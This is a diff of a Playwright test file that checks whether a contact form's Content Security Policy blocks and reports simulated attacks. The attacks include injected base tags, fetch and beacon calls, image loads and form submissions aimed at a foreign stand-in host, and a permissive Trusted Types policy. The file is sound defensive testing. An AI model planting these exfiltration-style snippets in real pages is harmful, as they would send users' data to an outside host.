@@ -1,19 +1,12 @@
-import { type Browser, expect, type Page } from '@playwright/test'
+import { type Browser, expect } from '@playwright/test'
 import { test } from '../../support/browser'
 import { collectViolations } from '../../support/violations'
 import { expectSent, openSavedDraft, submit } from './journey'
 
 /** What an attacker, or a package gone bad, would do; each must be blocked and reported. */
 
-interface Attacked {
-  page: Page
-  violations: readonly string[]
-  /** Requests to another host that were not blocked. */
-  left: readonly string[]
-}
-
-/** A page in a context that expects violations. */
-async function openAttacked(browser: Browser, siteUrl: string): Promise<Attacked> {
+/** A page in a context that expects violations, and the requests to another host that were not blocked. */
+async function openAttacked(browser: Browser, siteUrl: string) {
   const context = await browser.newContext({ baseURL: siteUrl })
   const violations = await collectViolations(context)
   const page = await context.newPage()
@@ -44,44 +37,29 @@ const seeds = {
   [`<base href="${foreign}">`]: 'base-uri blocked',
 }
 
-/** Scripts that got into a page, each with what reports it; only the last may leave the page. */
-const scripts: readonly (readonly [reported: string, script: (address: string) => void])[] = [
-  [
-    `connect-src blocked ${foreign}/request`,
-    (address) => void fetch(`${address}/request`).catch(() => {}),
-  ],
-  [
-    `connect-src blocked ${foreign}/beacon`,
-    (address) => void navigator.sendBeacon(`${address}/beacon`, 'x'),
-  ],
-  [
-    `img-src blocked ${foreign}/b.png`,
-    (address) => void Object.assign(new Image(), { src: `${address}/b.png` }),
-  ],
-  [
-    'require-trusted-types-for blocked trusted-types-sink',
-    (address) => {
-      document.body.innerHTML = `<img src="${address}">`
-    },
-  ],
-  [
-    'trusted-types blocked trusted-types-policy',
-    () => {
-      const { trustedTypes } = window as unknown as {
-        trustedTypes: { createPolicy: (name: string, rules: object) => void }
-      }
-      trustedTypes.createPolicy('default', { createHTML: (html: string) => html })
-    },
-  ],
-  [
-    'form-action blocked',
-    (action) => {
-      const form = Object.assign(document.createElement('form'), { action })
-      document.body.append(form)
-      form.submit()
-    },
-  ],
-]
+/** Scripts that got into a page, and what reports each; only the last may leave the page. */
+const scripts: Readonly<Record<string, (address: string) => void>> = {
+  [`connect-src blocked ${foreign}/request`]: (address) =>
+    void fetch(`${address}/request`).catch(() => {}),
+  [`connect-src blocked ${foreign}/beacon`]: (address) =>
+    void navigator.sendBeacon(`${address}/beacon`, 'x'),
+  [`img-src blocked ${foreign}/b.png`]: (address) =>
+    void Object.assign(new Image(), { src: `${address}/b.png` }),
+  'require-trusted-types-for blocked trusted-types-sink': (address) => {
+    document.body.innerHTML = `<img src="${address}">`
+  },
+  'trusted-types blocked trusted-types-policy': () => {
+    const { trustedTypes } = window as unknown as {
+      trustedTypes: { createPolicy: (name: string, rules: object) => void }
+    }
+    trustedTypes.createPolicy('default', { createHTML: (html: string) => html })
+  },
+  'form-action blocked': (action) => {
+    const form = Object.assign(document.createElement('form'), { action })
+    document.body.append(form)
+    form.submit()
+  },
+}
 
 test('each attack on the form, in its HTML or by a script, is blocked and reported', async ({
   browser,
@@ -100,7 +78,7 @@ test('each attack on the form, in its HTML or by a script, is blocked and report
   }
   expect.soft(await page.title()).not.toBe('seeded')
   await expect.soft(page.locator('body')).toBeVisible()
-  for (const [reported, script] of scripts) {
+  for (const [reported, script] of Object.entries(scripts)) {
     // Trusted Types also throws.
     await page.evaluate(script, foreign).catch(() => undefined)
     await expectViolation(violations, `/contact/: ${reported}`)
